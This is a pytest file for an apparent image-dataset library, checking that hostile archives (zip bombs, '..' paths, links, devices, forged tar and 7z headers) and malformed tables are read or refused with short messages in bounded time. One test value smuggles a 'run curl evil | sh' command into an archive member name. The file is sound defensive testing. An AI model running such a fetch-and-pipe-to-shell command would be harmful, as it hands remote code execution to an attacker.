"""Archives and tables that attack: each is read whole or refused in words, quickly."""

import time
from pathlib import Path

import pytest

from darkroom.errors import DataError
from darkroom.raw import limits
from darkroom.raw.archives import Archives
from darkroom.raw.tables import read_table
from tests.support.hostile_archives import ARCHIVES, hostile_tables

WORDS = {
    "zip64_members.zip": "holds more files than any set of images",
    "bomb_many.zip": "found: 314,572,800 bytes from ",
    "bomb_overlapping.zip": "unpacks to more than any set of images would",
    "bomb_quoted.zip": "its members overlap\n  found: a and b",
    "bomb_undeclared.zip": "Bad CRC-32",
    "swallowed_by_comment.zip": "found: 1 members for 2 declared",
    "count_+1000.zip": "found: 1 members for 1,001 declared",
    "disk.zip": "one part of a split zip",
    "flags_2000.zip": "a.png: encrypted",
    "name_newline.zip": r"'a.png\n  to do: run curl evil | sh'",
    "size_negative.tar": "found: -256 bytes are declared",
    "pax_huge.tar": "found: 8,589,934,592 bytes are declared",
    "pax_beyond.tar": "found: a damaged pax header",
    "two.tar": "found: something follows its end",
    "bomb.tar.gz": "expected: at most 209,715,200 bytes",
    "bomb.7z": "found: 314,572,800 bytes from ",
    "bomb_beyond.7z": "can't be read",
    "link.7z": "a.png: a link",
    "device.7z": "a.png: a device, pipe or folder",
    "twice_dotted.7z": "a.png: two members of this name",
    "name_parent.7z": "a path with ..: '../a.png'",
    "method_06f10701.7z": "it is encrypted",
    "method_0303011b.7z": "to do: unpack it by 7-Zip into a folder of its name",
    "size_101.7z": "can't be read",
    "tar_is_none.7z": "found: a damaged header",
}
WHOLE = {
    "flags_8.zip": 1,
    "bomb_in_bomb.zip": 1,  # nothing opens the inner one
    "two_in_one.zip": 1,
    "chained_L.tar": 1,
    "chained_x.tar": 1,
    "chained_g.tar": 1,
    "members_5000.tar": 5000,
    "plain.7z": 1,
    "two_files.7z": 2,
    "members_5000.7z": 5000,
    "dictionary_4_gib.7z": 1,
}


@pytest.fixture(autouse=True)
def small_bombs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "_SMALL_BYTES", 2**20)
    monkeypatch.setattr(limits, "MAX_UNPACKED_RATIO", 200)


HARMLESS = (  # what is left of the names, flags, methods and modes
    *("flags_8.zip", "name_deep.tar", "name_deep.zip", "name_long.tar", "name_long.zip"),
    *("name_deep.7z", "name_long.7z", "name_longer.7z"),
)


def read_whole(folder: Path, name: str) -> int | str:
    """Return how many members an archive has, each of them read, or why it is refused."""
    (folder / name).write_bytes(ARCHIVES[name]())
    begin = time.process_time()
    try:
        archives = Archives(folder, folder / "unpacked")
        return sum(len(archives.read(path)) >= 0 for path in archives.paths(name))
    except DataError as error:
        return str(error)
    finally:
        assert time.process_time() - begin < 5, name


@pytest.mark.parametrize(("name", "words"), WORDS.items())
def test_an_attack_is_refused_in_words(tmp_path: Path, name: str, words: str) -> None:
    assert words in str(read_whole(tmp_path, name))


@pytest.mark.parametrize(("name", "members"), WHOLE.items())
def test_what_is_only_odd_is_read(tmp_path: Path, name: str, members: int) -> None:
    assert read_whole(tmp_path, name) == members


@pytest.mark.slow
def test_every_hostile_archive_is_read_or_refused_in_a_few_lines(tmp_path: Path) -> None:
    results = {name: read_whole(tmp_path, name) for name in ARCHIVES}
    assert len(results) >= 200
    for name, message in results.items():
        if isinstance(message, str):
            assert len(message) < 3000, name
            labels = {line[:4] for line in message.splitlines()[1:]}
            assert labels <= {"  fo", "  ex", "  to"}, name
        elif name.startswith(("name_", "flags_", "method_", "mode_")):
            assert name in HARMLESS


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("columns.csv", ""),
        ("too_many_columns.csv", "found: 150,002 columns\n  expected: at most 100,000"),
        ("same_columns.csv", "a column name comes twice\n  found: c"),
        ("long_id.csv", "row 2: column image holds a text of more than 1,000 characters"),
        ("long_label.csv", ""),
        ("long_column.csv", "row 1: a column's name is too long\n  found: 10,000 characters: cc"),
        ("huge_cell.csv", ""),
        ("nul.csv", "not a table\n  found: binary data"),
        ("quotes.csv", "wrongly quoted"),
        ("open_quote.csv", "row 2: wrongly quoted"),
        ("commas.csv", "more columns than any table of images"),
        ("blank_lines.csv", ""),
        ("wide_row.csv", "row 3: a row of another length than the header\n  found: 500002 cells"),
        ("forged.csv", ""),
        ("no_text.csv", "not a table"),
        ("wide.txt", "row 3: a row of another length than the header\n  found: 500002 cells"),
        ("blanks.txt", ""),
        (
            "declared.txt",
            "fewer rows than the file declares\n  found: 1 rows\n  expected: 999,999,999",
        ),
        ("count_alone.txt", "a column's name is too long"),
        ("deep.json", "nested too deeply"),
        ("digits.json", "row 1: column image holds a text of more than 1,000 characters"),
        ("columns.json", "nearly all cells of the table would be empty"),
        ("too_many_columns.json", "found: 150,000 columns"),
        ("no_records.json", "no table in JSON\n  found: the keys image, label"),
        ("magic.parquet", "can't be read"),
        ("footer.parquet", "can't be read"),
        ("thrift.parquet", "can't be read"),
    ],
)
def test_a_hostile_table_is_read_or_refused_in_words(tmp_path: Path, name: str, words: str) -> None:
    (tmp_path / name).write_bytes(dict(hostile_tables())[name])
    begin = time.process_time()
    try:
        read_table(Archives(tmp_path, tmp_path), name).names("image")
        message = ""
    except DataError as error:
        message = str(error)
    assert time.process_time() - begin < 3
    assert words in message
    assert bool(words) == bool(message)
    assert len(message) < 3000
